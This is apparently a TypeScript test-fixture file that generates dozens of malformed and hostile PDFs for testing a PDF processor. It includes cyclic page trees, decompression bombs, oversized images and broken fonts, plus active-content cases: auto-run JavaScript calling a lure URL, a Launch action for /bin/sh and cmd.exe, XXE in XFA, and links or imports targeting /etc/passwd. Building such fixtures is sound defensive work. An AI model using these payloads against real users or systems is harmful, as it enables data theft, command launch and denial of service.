import { deflateSync } from 'node:zlib'
import { pdfOf } from '../files.ts'
import { type HostileFile, type Lure, filesOf } from './hostile-file.ts'

function stream(content: string, entries = ''): string {
  return `<< /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`
}

/** One page of A4 that says something; the rest is what the test is about. Objects 1 to 5 are taken. */
function onePage(
  part: {
    readonly catalogue?: string
    readonly page?: string
    readonly resources?: string
    readonly content?: string
    readonly box?: string
    readonly more?: readonly string[]
    readonly trailer?: string
  } = {},
): Buffer {
  const content = part.content ?? 'BT /F1 24 Tf 60 700 Td (hostile) Tj ET'
  return pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${part.catalogue ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R ${part.box ?? '/MediaBox [0 0 595 842]'} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${part.resources ?? ''} >> ${part.page ?? ''} >>`,
      stream(content),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...(part.more ?? []),
    ],
    part.trailer,
  )
}

const deflated = (content: Buffer): string => deflateSync(content).toString('latin1')
const draw = 'q 500 0 0 500 40 100 cm /X Do Q'

function image(entries: string, content: string): Buffer {
  const object = stream(content, `/Type /XObject /Subtype /Image ${entries}`)
  return onePage({ content: draw, resources: '/XObject << /X 6 0 R >>', more: [object] })
}

function font(entries: string, more: readonly string[]): Buffer {
  const content = 'BT /F2 24 Tf 60 700 Td (broken \\225\\240) Tj ET'
  return onePage({
    content,
    page: '',
    resources: '/Font << /F1 5 0 R /F2 6 0 R >>',
    more: [entries, ...more],
  })
}

/** PDFs that act, call, go in circles or claim to be larger than the world. */
export function hostilePdfs({ url }: Lure): HostileFile[] {
  const script = `app.launchURL("${url}/js"); this.submitForm("${url}/form"); while (true) {}`
  const action = (body: string): Buffer => onePage({ catalogue: `/OpenAction << /Type /Action ${body} >>` })
  const form = '<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X'
  return filesOf('pdf', {
    ...behaving(url, script, action),
    円環の頁木: [
      'damaged',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ],
    親が自分: onePage({ page: '/Parent 3 0 R' }),
    互いに親: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 5 >>',
      '<< /Type /Pages /Kids [2 0 R] /Count 5 /Parent 2 0 R >>',
    ]),
    頁数の嘘: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 2147483647 >>']),
    頁数が負: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count -5 >>']),
    一万五千一頁: [
      'too_large',
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Count 15001 /Kids [${Array.from({ length: 15_001 }, (_, index) => `${index + 3} 0 R`).join(' ')}] >>`,
        ...Array.from({ length: 15_001 }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'),
      ]),
    ],
    円環の目次: [
      'pages',
      onePage({
        catalogue: '/Outlines 6 0 R',
        more: [
          '<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>',
          '<< /Title (A) /Parent 6 0 R /Next 8 0 R /First 7 0 R /Last 8 0 R /Dest [3 0 R /Fit] >>',
          '<< /Title (B) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>',
        ],
      }),
    ],
    自分を描く図形: onePage({
      content: '/X Do',
      resources: '/XObject << /X 6 0 R >>',
      more: [`${form} 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream`],
    }),
    互いに描く図形: onePage({
      content: '/X Do',
      resources: '/XObject << /X 6 0 R >>',
      more: [
        `${form} 7 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream`,
        `${form} 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream`,
      ],
    }),
    自分で塗る模様: onePage({
      content: '/Pattern cs /P scn 0 0 500 500 re f',
      resources: '/Pattern << /P 6 0 R >>',
      more: [
        stream(
          '/Pattern cs /P scn 0 0 9 9 re f',
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 60 /YStep 60 /Resources << /Pattern << /P 6 0 R >> >>',
        ),
      ],
    }),
    自分を透かす: onePage({
      content: '/G gs 0 0 500 500 re f',
      resources: '/ExtGState << /G 6 0 R >>',
      more: [
        '<< /Type /ExtGState /SMask << /S /Luminosity /G 7 0 R >> >>',
        stream(
          '/G gs 0 0 9 9 re f',
          '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Group << /S /Transparency >> /Resources << /ExtGState << /G 6 0 R >> >>',
        ),
      ],
    }),
    巨大な紙: ['too_large', onePage({ box: '/MediaBox [0 0 1000000000 1000000000]' })],
    細長い紙: ['too_large', onePage({ box: '/MediaBox [0 0 1 100000]' })],
    負の紙: onePage({ box: '/MediaBox [595 842 -10 -20] /CropBox [-5 -5 -900 -900]' }),
    面積のない紙: onePage({ box: '/MediaBox [0 0 0 0]' }),
    数でない紙: onePage({ box: '/MediaBox [nan inf 1e999 -1e999]' }),
    紙がない: onePage({ box: '' }),
    百万倍の単位: onePage({ page: '/UserUnit 1000000' }),
    斜めの回転: onePage({ page: '/Rotate 45' }),
    深い入れ子: onePage({ page: `/Deep ${'['.repeat(20_000)}${']'.repeat(20_000)}` }),
    深い辞書: onePage({ page: `/Deep ${'<< /A '.repeat(5000)}null ${'>> '.repeat(5000)}` }),
    膨らむ本文: onePage({ more: [], content: 'q '.repeat(200_000) }),
    閉じすぎ: onePage({ content: `${'Q '.repeat(50_000)}BT /F1 24 Tf 60 700 Td (hostile) Tj ET` }),
    でたらめな命令: onePage({
      content: '1 2 3 nonsense << /A [ ( BT ET Do Tj ) >> 0 0 0 0 0 0 cm \u0000\u0001',
    }),
    爆弾の本文: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      stream(deflated(Buffer.alloc(60_000_000, 0x20)), '/Filter /FlateDecode'),
    ]),
    重ねた圧縮: pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      stream('x', `/Filter [${'/FlateDecode '.repeat(500)}]`),
    ]),
    十万四方の画像: image(
      '/Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode',
      deflated(Buffer.alloc(1_000_000)),
    ),
    中身のない画像: image('/Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 16', ''),
    負の画像: image('/Width -5 /Height 2147483647 /ColorSpace /DeviceRGB /BitsPerComponent 8', 'xxxx'),
    壊れたJPX: image(
      '/Width 10 /Height 10 /Filter /JPXDecode',
      '\u0000\u0000\u0000\fjP  \r\n\u0087\n broken',
    ),
    壊れたJBIG2: image(
      '/Width 9999 /Height 9999 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
      'broken',
    ),
    広すぎるFAX: image(
      '/Width 2000000000 /Height 5 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2000000000 >>',
      'x',
    ),
    円環の表: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], '/Prev 9'),
    自分を含む束: onePage({ more: [stream('6 0 << >>', '/Type /ObjStm /N 1 /First 4 /Extends 6 0 R')] }),
    行先のない表: [
      'damaged',
      pdfOf(['<< /Type /Catalog /Pages 99 0 R >>'])
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n999999999'),
    ],
    未知の鍵: onePage({ trailer: '/Encrypt << /Filter /Standard /V 99 /R 99 /O (x) /U (y) /P -1 >>' }),
    別の錠前: onePage({ trailer: '/Encrypt << /Filter /Nobody /V 4 >>' }),
    壊れたTrueType: font('<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FontDescriptor 7 0 R >>', [
      '<< /Type /FontDescriptor /FontName /Bad /Flags 4 /FontFile2 8 0 R >>',
      stream(`\u0000\u0001\u0000\u0000\u00ff\u00ff${'glyf'.repeat(400)}`),
    ]),
    壊れたCFF: font('<< /Type /Font /Subtype /Type1 /BaseFont /Bad /FontDescriptor 7 0 R >>', [
      '<< /Type /FontDescriptor /FontName /Bad /Flags 4 /FontFile3 8 0 R >>',
      stream(`\u0001\u0000\u0004\u0004${'\u00ff'.repeat(500)}`, '/Subtype /Type1C'),
    ]),
    自分を描く文字: font(
      '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /b 7 0 R >> /Encoding << /Differences [98 /b] >> /FirstChar 98 /LastChar 98 /Widths [9] /Resources << /Font << /F2 6 0 R >> >> >>',
      [stream('BT /F2 9 Tf (b) Tj ET')],
    ),
    円環の文字表: font(
      '<< /Type /Font /Subtype /Type0 /BaseFont /Bad /Encoding 7 0 R /DescendantFonts [8 0 R] /ToUnicode 7 0 R >>',
      [
        stream(
          'begincmap 1 begincodespacerange <00> <ffffffff> endcodespacerange 1 begincidrange <00> <ffffffff> 0 endcidrange endcmap',
          '/Type /CMap /CMapName /Bad /UseCMap 7 0 R',
        ),
        '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Bad /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 99 >> >>',
      ],
    ),
    無数の注釈: onePage({
      page: `/Annots [${'<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /C [1 0 0] >> '.repeat(3000)}]`,
    }),
    見出しだけ: ['damaged', '%PDF-1.7\n'],
    頁のないもの: ['damaged', pdfOf(['<< /Type /Catalog >>'])],
    空文字の題: onePage({ trailer: '/Info << /Title (\u0000\u0000) /Author (\u00fe\u00ff\u00d8\u0000) >>' }),
  })
}

/** PDFs that want to do something, and those that hide something. */
function behaving(
  url: string,
  script: string,
  action: (body: string) => Buffer,
): Readonly<Record<string, readonly ['pages', Buffer]>> {
  const file = `<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>`
  const made: Readonly<Record<string, Buffer>> = {
    開くと動くJavaScript: action(`/S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')})`),
    名前のJavaScript: onePage({
      catalogue: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
      more: [`<< /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>`],
    }),
    頁を開くと動く: onePage({ page: `/AA << /O << /S /URI /URI (${url}/aa) >> >>` }),
    プログラムの起動: action('/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>'),
    外への通知: action(`/S /URI /URI (${url}/uri)`),
    書式の送信: action(`/S /SubmitForm /F (${url}/submit) /Fields []`),
    ほかのPDFへ: action('/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]'),
    データの取込み: action('/S /ImportData /F (/etc/passwd)'),
    中のファイル: onePage({
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      more: [file, stream('MZ\u0090')],
    }),
    ポートフォリオ: onePage({
      catalogue: '/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      more: [file, stream('MZ\u0090')],
    }),
    XFA: onePage({
      catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [
        stream(
          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>`,
        ),
      ],
    }),
    計算する欄: onePage({
      catalogue: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [60 60 300 90] /AA << /F << /S /JavaScript /JS (while\\(true\\){}) >> /C << /S /JavaScript /JS (while\\(true\\){}) >> >> >>`,
      ],
    }),
    外にある画像: onePage({
      content: draw,
      resources: '/XObject << /X 6 0 R >>',
      more: [
        `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${url}/image) >> >>\nstream\n\nendstream`,
      ],
    }),
    リンクの罠: onePage({
      page: '/Annots [6 0 R 7 0 R]',
      more: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:fetch\\("/v1/me"\\)) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (file:///etc/passwd) >> >>',
      ],
    }),
    動画と音: onePage({
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (${url}/film) /FS /URL >> >> >> >> >>`,
      ],
    }),
  }
  return Object.fromEntries(Object.entries(made).map(([name, bytes]) => [name, ['pages', bytes] as const]))
}
